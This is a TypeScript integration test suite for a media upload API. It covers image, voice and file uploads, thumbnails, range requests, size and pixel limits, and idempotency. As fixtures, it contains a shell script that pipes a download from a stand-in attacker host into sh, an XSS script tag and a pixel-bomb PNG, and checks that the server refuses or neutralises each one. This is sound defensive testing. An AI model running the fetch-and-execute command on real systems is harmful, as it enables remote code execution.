// Uploads through /v1 on embedded PostgreSQL with real files: a PNG and a JPEG made by sharp, WAV
// and MP3 headers, a script renamed .jpg; what is stored, what is served, and what is refused.
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import t from 'tap';
import { build } from '../../support/app.js';
import { mp3, multipart, wav, type FilePart } from '../../support/multipart.js';

type Media = { mediaId: string; ownerId: string; kind: string; mime: string; size: number; width: number | null; height: number | null; durationMs: number | null; url: string; thumbnailUrl: string | null };

const dataDir = await mkdtemp(join(tmpdir(), 'media-int-'));
t.teardown(() => rm(dataDir, { recursive: true, force: true }));
const app = await build(t, { DATA_DIR: dataDir, MEDIA_MAX_IMAGE_BYTES: String(200_000), MEDIA_MAX_VOICE_BYTES: String(50_000), MEDIA_MAX_VIDEO_BYTES: String(300_000), MEDIA_MAX_FILE_BYTES: String(100_000), MEDIA_MAX_PIXELS: String(4_000_000) });
const ann = await app.signIn('+8613800000001');
const auth = { authorization: `Bearer ${ann.token}` };

const upload = (file: FilePart | null, fields: Record<string, string> = {}, headers: Record<string, string> = {}) => {
  const m = multipart(file, fields);
  return app.inject({ method: 'POST', url: '/v1/media', headers: { ...auth, ...m.headers, ...headers }, payload: m.payload });
};
const raw = (url: string, headers: Record<string, string> = {}) => app.platform.app?.inject({ method: 'GET', url, headers });
const stored = async () => (await readdir(join(dataDir, 'objects', 'media')).catch(() => [] as string[])).filter((f) => !f.endsWith('.type'));
const mediaRows = async () => Number((await app.platform.core.pool.query<{ n: string }>('select count(*) as n from media')).rows[0]?.n ?? 0);

const png = await sharp({ create: { width: 1200, height: 800, channels: 3, background: '#3366cc' } }).png().toBuffer();
const jpegWithExif = await sharp({ create: { width: 640, height: 960, channels: 3, background: '#cc6633' } })
  .jpeg()
  .withExif({ IFD0: { Copyright: 'someone', ImageDescription: 'taken at home' } })
  .toBuffer();

await t.test('given a PNG, when uploaded, then it is an image with its dimensions, a bounded thumbnail, and the same bytes served back', async (t) => {
  const r = await upload({ bytes: png, filename: 'photo.png', contentType: 'image/png' });
  t.equal(r.status, 201, r.text);
  const m = r.json<Media>();
  t.match(m, { ownerId: ann.userId, kind: 'image', mime: 'image/png', size: png.length, width: 1200, height: 800 });
  t.equal(m.url, `/v1/media/${m.mediaId}/content`);

  const content = await raw(m.url);
  t.equal(content?.statusCode, 200);
  t.ok(content?.rawPayload.equals(png), 'served bytes equal uploaded bytes');
  t.equal(content?.headers['content-type'], 'image/png');
  t.equal(content?.headers['cache-control'], 'public, max-age=31536000, immutable');
  t.equal(content?.headers['x-content-type-options'], 'nosniff');
  t.match(String(content?.headers.etag), /^"[0-9a-f]{64}"$/);

  const thumb = await raw(m.thumbnailUrl ?? '');
  t.equal(thumb?.statusCode, 200);
  t.equal(thumb?.headers['content-type'], 'image/jpeg');
  const meta = await sharp(thumb?.rawPayload).metadata();
  t.ok((meta.width ?? 0) <= 320 && (meta.height ?? 0) <= 320, `thumbnail ${meta.width}x${meta.height} within 320`);
  t.equal(Math.max(meta.width ?? 0, meta.height ?? 0), 320);

  const again = await raw(m.url, { 'if-none-match': String(content?.headers.etag) });
  t.equal(again?.statusCode, 304);
  const got = await app.inject({ method: 'GET', url: `/v1/media/${m.mediaId}`, headers: auth });
  t.same(got.json(), m);
});

await t.test('given a JPEG with EXIF, when uploaded, then its thumbnail carries no metadata', async (t) => {
  const r = await upload({ bytes: jpegWithExif, filename: 'me.jpg', contentType: 'image/jpeg' }, { kind: 'image' });
  t.equal(r.status, 201, r.text);
  const m = r.json<Media>();
  t.match(m, { mime: 'image/jpeg', width: 640, height: 960 });
  t.ok((await sharp(jpegWithExif).metadata()).exif, 'the original has EXIF');
  const thumb = await raw(m.thumbnailUrl ?? '');
  const meta = await sharp(thumb?.rawPayload).metadata();
  t.equal(meta.exif, undefined, 'no EXIF in the thumbnail');
  t.same([meta.width, meta.height], [213, 320]);
});

await t.test('given a WAV and an MP3, when uploaded as voice, then they are voice with the duration given, served in ranges', async (t) => {
  const w = wav(4000);
  const r = await upload({ bytes: w, filename: 'hello.amr', contentType: 'application/octet-stream' }, { kind: 'voice', durationMs: '250' });
  t.equal(r.status, 201, r.text);
  const m = r.json<Media>();
  t.match(m, { kind: 'voice', mime: 'audio/wav', size: w.length, durationMs: 250, thumbnailUrl: null, width: null });

  const part = await raw(m.url, { range: 'bytes=100-199' });
  t.equal(part?.statusCode, 206);
  t.equal(part?.headers['content-range'], `bytes 100-199/${w.length}`);
  t.ok(part?.rawPayload.equals(w.subarray(100, 200)), 'the range is exactly those bytes');
  const tail = await raw(m.url, { range: 'bytes=-44' });
  t.ok(tail?.rawPayload.equals(w.subarray(w.length - 44)), 'a suffix range');
  const open = await raw(m.url, { range: `bytes=${w.length - 10}-` });
  t.equal(open?.headers['content-range'], `bytes ${w.length - 10}-${w.length - 1}/${w.length}`);
  const past = await raw(m.url, { range: `bytes=${w.length}-` });
  t.equal(past?.statusCode, 416);
  t.equal(past?.headers['content-range'], `bytes */${w.length}`);

  const mp = await upload({ bytes: mp3(), filename: 'a.mp3', contentType: 'audio/mpeg' });
  t.equal(mp.status, 201, mp.text);
  t.match(mp.json(), { kind: 'voice', mime: 'audio/mpeg' });
});

await t.test('refusals store nothing', async (t) => {
  const before = { files: (await stored()).length, rows: await mediaRows() };
  const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
  const asJpg = await upload({ bytes: script, filename: 'cute.jpg', contentType: 'image/jpeg' });
  t.equal(asJpg.status, 415, 'a script named .jpg');
  t.equal(asJpg.json<{ error: { code: string } }>().error.code, 'UNSUPPORTED_MEDIA_TYPE');
  const asImage = await upload({ bytes: script, filename: 'cute.jpg', contentType: 'image/jpeg' }, { kind: 'image' });
  t.equal(asImage.status, 415);
  const wavAsImage = await upload({ bytes: wav(100), filename: 'x.png', contentType: 'image/png' }, { kind: 'image' });
  t.equal(wavAsImage.status, 415, 'audio bytes asked to be an image');

  const empty = await upload({ bytes: Buffer.alloc(0), filename: 'empty.png', contentType: 'image/png' });
  t.equal(empty.status, 400);
  t.equal(empty.json<{ error: { code: string } }>().error.code, 'VALIDATION_FAILED');

  const noise = await sharp(randomBytes(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } }).png().toBuffer();
  t.ok(noise.length > 200_000, `a ${noise.length}-byte PNG`);
  const big = await upload({ bytes: noise, filename: 'big.png', contentType: 'image/png' });
  t.equal(big.status, 413, 'over the image limit');
  t.match(big.json(), { error: { code: 'PAYLOAD_TOO_LARGE', details: { kind: 'image', limit: 200_000 } } });

  const bomb = await sharp({ create: { width: 4000, height: 4000, channels: 3, background: '#000' } }).png().toBuffer();
  t.ok(bomb.length < 200_000, `a ${bomb.length}-byte PNG of 16 megapixels`);
  const refusedBomb = await upload({ bytes: bomb, filename: 'bomb.png', contentType: 'image/png' });
  t.equal(refusedBomb.status, 413, 'over the pixel limit');

  const huge = await upload({ bytes: Buffer.alloc(600_000, 1), filename: 'huge.bin', contentType: 'application/octet-stream' }, { kind: 'file' });
  t.equal(huge.status, 413, 'over every limit: the multipart reader stops');

  const noFile = await upload(null, { kind: 'image' });
  t.equal(noFile.status, 400);
  const badField = await upload({ bytes: png, filename: 'p.png', contentType: 'image/png' }, { kind: 'sticker' });
  t.equal(badField.status, 400);
  const json = await app.inject({ method: 'POST', url: '/v1/media', headers: auth, payload: { file: 'x' } });
  t.equal(json.status, 400);
  const anonymous = await app.inject({ method: 'POST', url: '/v1/media', ...multipart({ bytes: png, filename: 'p.png', contentType: 'image/png' }) });
  t.equal(anonymous.status, 401);

  t.same({ files: (await stored()).length, rows: await mediaRows() }, before, 'no object and no row');
});

await t.test('given a text file, when uploaded as a file, then it is served as a download, never rendered', async (t) => {
  const text = Buffer.from('<script>alert(1)</script>');
  const r = await upload({ bytes: text, filename: 'notes.html', contentType: 'text/html' }, { kind: 'file' });
  t.equal(r.status, 201, r.text);
  const m = r.json<Media & { name: string }>();
  t.match(m, { kind: 'file', mime: 'application/octet-stream', name: 'notes.html' });
  const got = await raw(m.url);
  t.equal(got?.headers['content-type'], 'application/octet-stream');
  t.match(String(got?.headers['content-disposition']), /^attachment; filename\*=UTF-8''notes\.html$/);
  t.ok(got?.rawPayload.equals(text));
});

await t.test('given an Idempotency-Key, when the same upload is retried, then one media, one event', async (t) => {
  const headers = { 'idempotency-key': 'avatar-upload-1' };
  const a = await upload({ bytes: png, filename: 'p.png', contentType: 'image/png' }, {}, headers);
  const b = await upload({ bytes: png, filename: 'p.png', contentType: 'image/png' }, {}, headers);
  t.equal(a.status, 201);
  t.equal(b.json<Media>().mediaId, a.json<Media>().mediaId);
  const events = await app.platform.core.pool.query(`select 1 from media where media_id = $1`, [a.json<Media>().mediaId]);
  t.equal(events.rowCount, 1);
});

await t.test('unknown media is 404 for metadata and bytes', async (t) => {
  t.equal((await app.inject({ method: 'GET', url: '/v1/media/999999', headers: auth })).status, 404);
  t.equal((await raw('/v1/media/999999/content'))?.statusCode, 404);
});
